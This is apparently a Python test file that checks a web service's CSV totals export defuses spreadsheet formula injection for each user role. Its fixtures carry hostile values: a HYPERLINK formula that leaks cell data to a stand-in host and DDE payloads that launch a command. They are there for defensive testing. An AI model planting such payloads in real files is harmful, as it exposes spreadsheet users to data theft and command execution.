"""Defect 7: no CSV the service writes can carry a formula. Period names, indicator labels
and definitions that start like a formula are exported with a leading apostrophe, for every
role that may download the totals; figures stay bare numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from core.csvsafe import FORMULA_STARTS
from tests.conftest import WebAuth
from tests.outcomes.helpers import API

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Totals")'
INDICATORS = [
    ("boats", "+cmd|' /C calc'!A0", "=1+1"),
    ("nets", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 counts as a definition"),
    ("rafts", "-2+3", "@definition"),
    ("canoes", "  =spaces before the sign", "\uff1dfull-width equals"),
    ("kayaks", "Kayaks seized", "Plain words, with a comma, and \"quotes\"."),
]
VIEWERS = ["nlo.tha", "chair.nzl", "analyst", "admin"]


def _dangerous(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS


@pytest.fixture
def hostile(desk: Any) -> int:
    """A period whose name and extra indicators are formulas, with THA's figures in it."""
    admin = desk.api("admin")
    response = admin.post(f"{API}/periods", json={
        "name": NAME, "starts_at": "2015-09-28T00:00:00+07:00",
        "ends_at": "2015-10-28T00:00:00+07:00", "states": ["THA", "NZL"],
        "co_chairs": ["NZL"]})
    assert response.status_code == 201, response.get_data(as_text=True)
    pid = response.get_json()["id"]
    for key, label, definition in INDICATORS:
        added = admin.post(f"{API}/periods/{pid}/indicators", json={
            "key": key, "label": label, "unit": "items", "definition": definition})
        assert added.status_code == 201, added.get_data(as_text=True)
    sent = desk.submit_raw("nlo.tha", "2015-10-01", {"boats": 7, "arrests": 3}, pid=pid)
    assert sent.status_code == 201, sent.get_data(as_text=True)
    return pid


@pytest.mark.parametrize("username", VIEWERS)
def test_every_cell_of_the_totals_export_is_neutralised(desk, app, hostile, username):
    web = WebAuth(app.test_client())
    assert web.login(username).status_code == 302
    response = web.client.get(f"/periods/{hostile}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    raw = response.get_data(as_text=True)
    assert raw.startswith("\ufeff")  # a byte order mark, so spreadsheets read UTF-8
    text = raw.removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header == ["period", "scope", "indicator", "label", "unit", "value", "definition"]
    assert body
    for row in body:
        for column, cell in zip(header, row, strict=True):
            assert not _dangerous(cell), (column, cell)
    # Figures are bare numbers, every text cell quoted: read back with QUOTE_NONNUMERIC,
    # unquoted cells come as numbers.
    typed = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))[1:]
    for row in typed:
        assert [type(cell) for cell in row] == [str] * 5 + [float, str], row
    by_key = {row[2]: row for row in body if row[1] == "regional"}
    assert {row[0] for row in body} == {"'" + NAME}
    # As stored (the API trims surrounding spaces), then neutralised.
    stored = {i["key"]: i for i in desk.indicators("admin", hostile)}
    for key, _label, _definition in INDICATORS:
        label, definition = stored[key]["label"], stored[key]["definition"]
        shown_label, shown_definition = by_key[key][3], by_key[key][6]
        assert shown_label == ("'" + label if _dangerous(label) else label)
        assert shown_definition == ("'" + definition if _dangerous(definition) else definition)
    assert by_key["boats"][5] == "7" and by_key["arrests"][5] == "3"
